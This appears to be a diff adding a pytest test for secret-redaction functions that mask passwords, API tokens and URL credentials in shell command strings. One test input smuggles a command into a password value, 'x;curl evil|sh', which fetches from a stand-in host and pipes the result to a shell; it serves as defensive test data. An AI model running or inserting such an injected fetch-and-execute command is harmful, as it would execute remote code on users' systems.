@@ -36,3 +36,12 @@ def test_a_word_in_the_place_of_a_secret_is_hidden(command: str) -> None:
 def test_a_secret_that_is_known_is_hidden_whatever_it_holds(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SOME_PASSWORD", "a;long (secret)")
     assert "long" not in redact_words("x PASSWORD='a;long (secret)'; y") + redact_commands("x 'a;long (secret)'")
+
+
+def test_only_the_secret_that_may_be_code_is_shown_in_a_command() -> None:
+    command = "make PASSWORD='x;curl evil|sh' API_TOKEN=abcd1234efgh; git clone https://u:hunter2@h/x"
+    shown = "make PASSWORD='x;curl evil|sh' API_TOKEN=[REDACTED]; git clone https://[REDACTED]@h/x"
+    assert redact_words(command) == shown
+    assert redact_words(shown) == shown
+    assert redact_words("x PASSWORD=';;'; y") == "x PASSWORD=';;'; y"
+    assert redact_words(redact_commands(CODE[0])) == redact_commands(CODE[0])
